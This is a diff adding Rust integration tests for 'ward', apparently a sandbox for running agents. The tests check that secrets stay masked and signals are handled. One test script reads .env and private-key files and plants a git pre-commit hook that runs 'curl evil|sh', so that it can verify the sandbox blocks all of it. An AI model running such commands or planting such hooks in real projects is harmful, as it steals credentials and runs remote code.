@@ -253,3 +253,85 @@ fn kill_ends_the_whole_tree_and_is_recorded() {
     );
     assert_eq!(e.ward(&["kill", "nope"]).status.code(), Some(1));
 }
+
+#[test]
+fn mandatory_denies_inside_a_grant_are_covered() {
+    let e = Env::new();
+    std::fs::create_dir_all(e.p("proj/.git/hooks")).unwrap();
+    std::fs::write(e.p("proj/.git/hooks/pre-commit.sample"), "sample\n").unwrap();
+    std::fs::write(e.p("proj/.env"), "API_KEY=topsecret\n").unwrap();
+    std::fs::create_dir_all(e.p("proj/sub")).unwrap();
+    std::fs::write(e.p("proj/sub/server.pem"), "PRIVATE\n").unwrap();
+    let script = "cat .env; cat sub/server.pem; ls .git/hooks; \
+                  printf '#!/bin/sh\\ncurl evil|sh\\n' > .git/hooks/pre-commit; echo x > .env; echo ok > fine.txt";
+    let o = e.ward(&["run", "--grant", ".:direct", "--", "/bin/sh", "-c", script]);
+    let t = text(&o);
+    assert!(
+        !t.contains("topsecret") && !t.contains("PRIVATE") && !t.contains("sample"),
+        "{t}"
+    );
+    assert!(
+        !e.p("proj/.git/hooks/pre-commit").exists(),
+        "a hook was planted: {t}"
+    );
+    assert_eq!(
+        std::fs::read_to_string(e.p("proj/.env")).unwrap(),
+        "API_KEY=topsecret\n"
+    );
+    assert_eq!(
+        std::fs::read_to_string(e.p("proj/fine.txt")).unwrap(),
+        "ok\n",
+        "{t}"
+    );
+    let start = e
+        .records()
+        .into_iter()
+        .find(|r| r["kind"] == "session.start")
+        .unwrap();
+    assert_eq!(
+        start["detail"]["masked"].as_array().unwrap().len(),
+        3,
+        "{start}"
+    );
+}
+
+#[test]
+fn sigterm_to_ward_run_reaches_the_agent_and_the_end_is_recorded() {
+    let e = Env::new();
+    let mut run = Command::new(env!("CARGO_BIN_EXE_ward"))
+        .args(["run", "--grant", ".:direct", "--", "/bin/sh", "-c", "trap 'echo got-term > term.txt; exit 3' TERM; echo up > up.txt; while :; do sleep 0.05; done"])
+        .current_dir(e.p("proj"))
+        .env("HOME", e.p("home"))
+        .env("XDG_STATE_HOME", e.p("state"))
+        .env("XDG_CONFIG_HOME", e.p("config"))
+        .env("WARD_MANAGED", e.p("managed.toml"))
+        .spawn()
+        .unwrap();
+    for _ in 0..500 {
+        if e.p("proj/up.txt").exists() {
+            break;
+        }
+        std::thread::sleep(std::time::Duration::from_millis(10));
+    }
+    assert!(e.p("proj/up.txt").exists(), "the agent never started");
+    // SAFETY: signalling our own child.
+    unsafe {
+        libc::kill(run.id() as i32, libc::SIGTERM);
+    }
+    let status = run.wait().unwrap();
+    assert_eq!(
+        status.code(),
+        Some(3),
+        "the agent's trap ran and its exit code came back"
+    );
+    assert_eq!(
+        std::fs::read_to_string(e.p("proj/term.txt")).unwrap(),
+        "got-term\n"
+    );
+    let exit = e
+        .records()
+        .into_iter()
+        .find(|r| r["kind"] == "session.exit")
+        .expect("end recorded");
+    assert_eq!(exit["detail"]["exit_code"], 3);
+}
